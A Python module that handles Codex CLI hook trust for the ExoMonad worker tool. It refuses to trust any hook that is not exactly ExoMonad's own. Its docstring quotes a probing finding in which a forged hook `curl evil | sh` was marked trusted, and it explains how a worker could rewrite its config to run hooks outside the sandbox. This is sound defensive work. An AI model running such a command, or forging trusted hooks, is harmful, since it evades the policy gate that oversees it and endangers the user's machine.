"""Codex CLI's hook trust: how Codex (0.169) decides a hook may run, and ExoMonad's
consent path (``exomonad init --trust-codex-hooks``).

Codex runs a non-managed command hook only when the user config
(``$CODEX_HOME/config.toml``, default ``~/.codex``) holds, for that hook::

    [hooks.state."<source file>:<event label>:<group index>:<handler index>"]
    trusted_hash = "sha256:<hex>"

and the hash matches the hook's current definition; any other hook is skipped without a
word (``codex exec``) or after a dialog (the TUI). The project's ``.codex/`` layer (hooks,
MCP servers) is loaded only for a project whose ``[projects."<dir>"] trust_level`` is
``"trusted"``. The key and the hash, as codex-rs ``hooks/src/engine/discovery.rs`` and
``config/src/fingerprint.rs`` compute them:

* ``<source file>``: the absolute path of the file declaring the hook; ``<event label>``:
  the event in snake case (``pre_tool_use``); the indexes count matcher groups of that
  event and handlers in a group;
* the hash covers ``{"event_name": <label>, "matcher": <matcher>, "hooks": [<handler>]}``
  where the handler is ``{"type": "command", "command", "timeout" (default 600, at least
  1), "async" (default false), "statusMessage" (only when set)}``; ``matcher`` is left
  out when absent and for ``UserPromptSubmit`` / ``Stop``. That object as compact JSON
  with sorted keys (UTF-8), SHA-256 in hex, prefixed ``sha256:``.

The trust key holds the hooks file's absolute path, and each worker runs in its own
worktree: so the user's consent is recorded once (``[workers] codex_trust = true`` in
``.exomonad/config.toml``, written by ``init --trust-codex-hooks``), and ExoMonad records
trust for *its own* hooks in each new worktree's ``.codex/config.toml`` when it makes
it, then verifies them before the worker starts. Hooks that are not ExoMonad's are never
trusted on the user's behalf: a worker can rewrite its own worktree's
``.codex/config.toml``, and a hook recorded as trusted in the user's real Codex config
would run in any later Codex session in that path, sandbox or not (found probing: a hook
``command = "curl evil | sh # exomonad hook"`` gained a ``trusted_hash`` and its worktree
``trust_level = "trusted"``). So trust is recorded only when the file's whole ``[hooks]``
table is exactly what ``exomonad init`` writes (:func:`exomonad_hook_problems`: each
event, matcher, command and time-out, compared after parsing, no other hook), else
nothing is written and the worker is refused, saying which hooks to look at.

>>> hook_event_label("PreToolUse"), hook_event_label("pre-tool-use")
('pre_tool_use', 'pre_tool_use')
>>> hook_trust_hash("Stop", {"command": "x"}, "*") == hook_trust_hash("stop", {"command": "x"})
True
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import tomllib
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from exomonad.errors import GateError
from exomonad.runtimes.base import HOOK_MARK, hook_command, set_hooks
from exomonad.util.clip import clip

__all__ = [
    "DEFAULT_TIMEOUT",
    "MATCHERLESS_EVENTS",
    "TRUST_FIX",
    "codex_home",
    "exomonad_hook_problems",
    "exomonad_hooks",
    "hook_event_label",
    "hook_state_key",
    "hook_trust_entries",
    "hook_trust_hash",
    "record_trust",
    "require_trusted",
    "untrusted_hooks",
]

DEFAULT_TIMEOUT = 600
#: Events whose matcher Codex drops before hashing (and matching).
MATCHERLESS_EVENTS = frozenset({"user_prompt_submit", "stop"})
#: What to run to give consent.
TRUST_FIX = ("run `exomonad init --trust-codex-hooks` in the project (it records your "
             "consent in .exomonad/config.toml, and ExoMonad then trusts its own hooks in "
             "each Codex worker's checkout), then start the worker again")  # fmt: skip


def codex_home(env: Mapping[str, str] | None = None) -> Path:
    """``$CODEX_HOME``, else ``~/.codex``."""
    env = os.environ if env is None else env
    found = env.get("CODEX_HOME")
    return Path(found) if found else Path(env.get("HOME") or Path.home()) / ".codex"


def hook_event_label(event: str) -> str:
    """``PreToolUse`` → ``pre_tool_use`` (``pre-tool-use`` too)."""
    return re.sub(r"(?<!^)(?=[A-Z])", "_", event).lower().replace("-", "_")


def hook_state_key(source: Path, event: str, group: int, index: int) -> str:
    """The ``[hooks.state."<key>"]`` key of handler ``index`` in matcher group ``group``."""
    return f"{source}:{hook_event_label(event)}:{group}:{index}"


def hook_trust_hash(event: str, handler: Mapping[str, Any], matcher: str | None = None) -> str:
    """``sha256:<hex>`` of one command handler as Codex normalises it (module doc)."""
    label = hook_event_label(event)
    timeout = handler.get("timeout", handler.get("timeoutSec"))
    normalised: dict[str, Any] = {
        "type": "command", "command": str(handler["command"]),
        "timeout": max(1, int(timeout)) if timeout is not None else DEFAULT_TIMEOUT,
        "async": bool(handler.get("async", False)),
    }  # fmt: skip
    if handler.get("statusMessage") is not None:
        normalised["statusMessage"] = str(handler["statusMessage"])
    identity: dict[str, Any] = {"event_name": label, "hooks": [normalised]}
    if matcher is not None and label not in MATCHERLESS_EVENTS:
        identity["matcher"] = matcher
    text = json.dumps(identity, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest()


def _load(path: Path) -> dict[str, Any]:
    text = path.read_text(encoding="utf-8")
    data = json.loads(text) if path.suffix == ".json" else tomllib.loads(text)
    return data if isinstance(data, dict) else {}


def hook_trust_entries(source: Path) -> dict[str, str]:
    """``{state key: trusted hash}`` for every command hook declared in ``source`` (a
    ``config.toml`` with a ``[hooks]`` table, or a ``hooks.json``), whoever wrote it (which
    are ExoMonad's: :func:`exomonad_hook_problems`)."""
    source = source.resolve()
    hooks = _load(source).get("hooks") or {}
    entries: dict[str, str] = {}
    for event, groups in hooks.items():
        if event == "state" or not isinstance(groups, list):
            continue
        for g, group in enumerate(groups):
            matcher = group.get("matcher") if isinstance(group, dict) else None
            matcher = matcher if isinstance(matcher, str) else None
            handlers = group.get("hooks") if isinstance(group, dict) else None
            for i, handler in enumerate(handlers if isinstance(handlers, list) else []):
                if not isinstance(handler, dict) or handler.get("type", "command") != "command":
                    continue
                entries[hook_state_key(source, event, g, i)] = hook_trust_hash(
                    event, handler, matcher
                )
    return entries


def exomonad_hooks(approval_timeout: int, *, front: bool) -> dict[str, Any]:
    """The ``[hooks]`` table ``exomonad init`` writes for Codex (as :meth:`CodexCli.configure
    <exomonad.runtimes.codex.CodexCli.configure>` builds it) for ``[policy]
    approval_timeout``, its commands started through the hook client's shell front
    (``exomonad-hook exomonad hook ...``, written when PATH has it) or not."""
    from exomonad.util.selfexec import EXOMONAD, hook_front

    return _table(approval_timeout, front=front, here=hook_front(EXOMONAD))


def _table(approval_timeout: int, *, front: bool, here: str | None) -> dict[str, Any]:
    """:func:`exomonad_hooks`, where ``here`` is what :func:`hook_command` puts before
    ``exomonad`` on this machine (:func:`exomonad.util.selfexec.hook_front`)."""
    from exomonad.runtimes.codex import CODEX, HOOKS
    from exomonad.util.selfexec import EXOMONAD, HOOK_FRONT

    table: dict[str, Any] = {}
    for event, ours in HOOKS:
        command = hook_command(EXOMONAD, ours, CODEX, approval_timeout)
        if here and command.startswith(f"{here} "):
            command = command[len(here) + 1 :]
        set_hooks(table, event, None, f"{HOOK_FRONT} {command}" if front else command,
                  approval_timeout + 30)  # fmt: skip
    return table


def _canonical(value: Any) -> str:
    """Compact sorted JSON: ``80``, ``80.0`` and ``true`` differ (Python's ``==`` would
    take ``True`` for ``1``)."""
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=True)


def _show(value: Any, limit: int = 300) -> str:
    """``value`` as escaped JSON, cut to ``limit`` characters with a count."""
    return clip(_canonical(value), limit)


def _handlers(hooks: Mapping[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    for groups in hooks.values():
        for group in groups if isinstance(groups, list) else []:
            handlers = group.get("hooks") if isinstance(group, dict) else None
            found += [h for h in handlers or [] if isinstance(h, dict)]
    return found


def _matches(hooks: Mapping[str, Any], expected: Mapping[str, Any]) -> int:
    """How many of ExoMonad's events ``hooks`` holds exactly as ``expected``."""
    want = {event: _canonical(groups[0]) for event, groups in expected.items()}
    return sum(
        isinstance(hooks.get(event), list) and any(_canonical(g) == text for g in hooks[event])
        for event, text in want.items()
    )


def _expected_for(hooks: Mapping[str, Any]) -> dict[str, Any]:
    """ExoMonad's table in the form that fits the file best: the approval time-out and
    shell front read off its hooks (the defaults when none fits)."""
    forms = {(80, False)} | {
        (h["timeout"], str(h.get("command", "")).startswith("exomonad-hook "))
        for h in _handlers(hooks)
        if type(h.get("timeout")) is int and h["timeout"] >= 30
    }
    from exomonad.util.selfexec import EXOMONAD, hook_front

    here = hook_front(EXOMONAD)
    tables = [_table(timeout - 30, front=front, here=here) for timeout, front in sorted(forms)]
    return max(tables, key=lambda table: _matches(hooks, table))


#: What :func:`_hook_check` finds wrong: a hook bearing :data:`HOOK_MARK` that is not
#: exactly ExoMonad's (it would pass for ours), another hook, one of ExoMonad's missing.
FORGED, OTHER, MISSING = "forged", "other", "missing"


def _hook_check(source: Path) -> tuple[dict[str, str], list[tuple[str, str]]]:
    """``({state key: hash}`` of the hooks in ``source`` that are exactly ExoMonad's,
    ``[(kind, problem)]`` for everything else in its ``[hooks]`` (kinds: :data:`FORGED`,
    :data:`OTHER`, :data:`MISSING`)."""
    source = source.resolve()
    hooks = _load(source).get("hooks")
    if not isinstance(hooks, dict):
        return {}, [(MISSING, "it has no [hooks] table")]
    expected = _expected_for(hooks)
    ours: dict[str, str] = {}
    problems: list[tuple[str, str]] = []

    def kind(value: Any) -> str:
        return FORGED if HOOK_MARK in _canonical(value) else OTHER

    for event, groups in hooks.items():
        where = f"hooks.{event}"
        want = _canonical(expected[event][0]) if event in expected else None
        if event == "state":
            problems.append((FORGED, f"{where}: hook trust belongs in your own Codex "
                                     "config, never in a project's"))  # fmt: skip
            continue
        if not isinstance(groups, list):
            problems.append((kind(groups), f"{where} = {_show(groups)}"))
            continue
        matched = False
        for g, group in enumerate(groups):
            if not matched and _canonical(group) == want:
                matched = True  # exactly ExoMonad's: one command handler, no matcher
                ours[hook_state_key(source, event, g, 0)] = hook_trust_hash(
                    event, group["hooks"][0], None
                )
                continue
            handlers = group.get("hooks") if isinstance(group, dict) else None
            if not isinstance(handlers, list) or not handlers:
                problems.append((kind(group), f"{where}[{g}] = {_show(group)}"))
                continue
            rest = {k: v for k, v in group.items() if k != "hooks"}
            also = f" (in a group with {_show(rest)})" if rest else ""
            for i, handler in enumerate(handlers):
                problems.append(
                    (kind(handler), f"{where}[{g}].hooks[{i}] = {_show(handler)}{also}")
                )
    for event in expected:
        if not hooks.get(event):  # present but not ours: reported above
            problems.append((MISSING, f"hooks.{event}: ExoMonad's hook is missing"))
    return ours, problems


def exomonad_hook_problems(source: Path) -> list[str]:
    """What keeps the ``[hooks]`` of ``source`` from being exactly what ``exomonad init``
    writes (:func:`exomonad_hooks`, every hook compared after parsing: event, matcher,
    command, time-out, nothing added): each hook that differs or is not ExoMonad's, each
    of ExoMonad's that is missing. Empty: ExoMonad may trust them on the user's behalf."""
    return [problem for _, problem in _hook_check(source)[1]]


def _user_config(home: Path) -> dict[str, Any]:
    path = home / "config.toml"
    try:
        return tomllib.loads(path.read_text(encoding="utf-8"))
    except FileNotFoundError:
        return {}
    except (OSError, tomllib.TOMLDecodeError) as exc:
        raise GateError(f"cannot read Codex's user config {path} ({exc})") from exc


def _trusted_project(config: Mapping[str, Any], checkout: Path) -> bool:
    projects = config.get("projects")
    if not isinstance(projects, dict):
        return False
    found = projects.get(str(checkout.resolve()))
    return isinstance(found, dict) and found.get("trust_level") == "trusted"


def untrusted_hooks(home: Path, hooks_file: Path, checkout: Path) -> list[str]:
    """What keeps ExoMonad's hooks in ``hooks_file`` from running under Codex home
    ``home`` in ``checkout``: a missing file or hook, an untrusted project, each hook
    whose trust is missing or stale. Empty: the gate is live."""
    if not hooks_file.is_file():
        return [f"{hooks_file} is missing (run `exomonad init` and commit .codex/)"]
    try:
        ours, found = _hook_check(hooks_file)
    except (OSError, ValueError) as exc:
        return [f"cannot read {hooks_file} ({exc})"]
    forged = [problem for kind, problem in found if kind == FORGED]
    if forged:
        return [f"hooks in {hooks_file} look like ExoMonad's but are not exactly what "
                f"`exomonad init` writes: {'; '.join(forged)}"]  # fmt: skip
    if not any(":pre_tool_use:" in key for key in ours):
        return [f"{hooks_file} has no ExoMonad PreToolUse hook (run `exomonad init`)"]
    config = _user_config(home)
    problems = (
        []
        if _trusted_project(config, checkout)
        else [f"the project {checkout} is not trusted in {home / 'config.toml'}"]
    )
    state = (config.get("hooks") or {}).get("state") or {}
    for key, digest in ours.items():
        entry = state.get(key) if isinstance(state, dict) else None
        if not isinstance(entry, dict) or entry.get("trusted_hash") != digest:
            problems.append(f"hook {key} is not trusted (or changed since)")
    return problems


def require_trusted(home: Path, hooks_file: Path, checkout: Path) -> None:
    """:class:`GateError`, saying how to fix it, unless the gate is live."""
    problems = untrusted_hooks(home, hooks_file, checkout)
    if problems:
        raise GateError(
            "Codex would run this worker with no ExoMonad policy (it silently skips hooks "
            f"it does not trust): {'; '.join(problems)}. To fix it, {TRUST_FIX}"
        )


def record_trust(home: Path, hooks_file: Path, checkout: Path) -> dict[str, str]:
    """Trust ``checkout`` as a project and ExoMonad's hooks in ``hooks_file`` in
    ``home/config.toml`` (comments and the user's other settings kept); returns the hook
    entries written. Only with the user's consent (see the module doc), and only when
    ``hooks_file`` holds exactly ExoMonad's hooks (:func:`exomonad_hook_problems`), else
    :class:`GateError` and nothing written."""
    import tomlkit

    path = home / "config.toml"
    try:
        ours, problems = _hook_check(hooks_file)
    except (OSError, ValueError) as exc:
        raise GateError(f"cannot read {hooks_file} ({exc}); nothing was trusted") from exc
    if problems:
        raise GateError(
            f"ExoMonad refuses to trust the Codex hooks in {hooks_file} on your behalf: "
            "they are not exactly the hooks `exomonad init` writes, and Codex would run "
            "whatever a trusted hook says in every later Codex session in "
            f"{checkout}. Look at: {'; '.join(p for _, p in problems)}. Nothing was written "
            f"to {path}. A worker can rewrite its own checkout's .codex/config.toml: "
            "remove that worker's worktree if you did not make the change; if the "
            "project's committed .codex/config.toml differs, run `exomonad init` and "
            "commit .codex/ (any other hook of yours there you must trust yourself, and "
            "start such workers without [workers] codex_trust), then start the worker again"
        )
    _user_config(home)  # refuse a config that does not parse, before touching it
    doc = tomlkit.parse(path.read_text(encoding="utf-8")) if path.exists() else tomlkit.document()
    projects = doc.setdefault("projects", tomlkit.table(is_super_table=True))
    project = projects.setdefault(str(checkout.resolve()), tomlkit.table())
    project["trust_level"] = "trusted"
    hooks = doc.setdefault("hooks", tomlkit.table(is_super_table=True))
    state = hooks.setdefault("state", tomlkit.table(is_super_table=True))
    for key, digest in ours.items():
        entry = state.setdefault(key, tomlkit.table())
        entry["trusted_hash"] = digest
    home.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".exomonad-tmp")
    tmp.write_text(tomlkit.dumps(doc), encoding="utf-8")
    tmp.replace(path)
    return ours
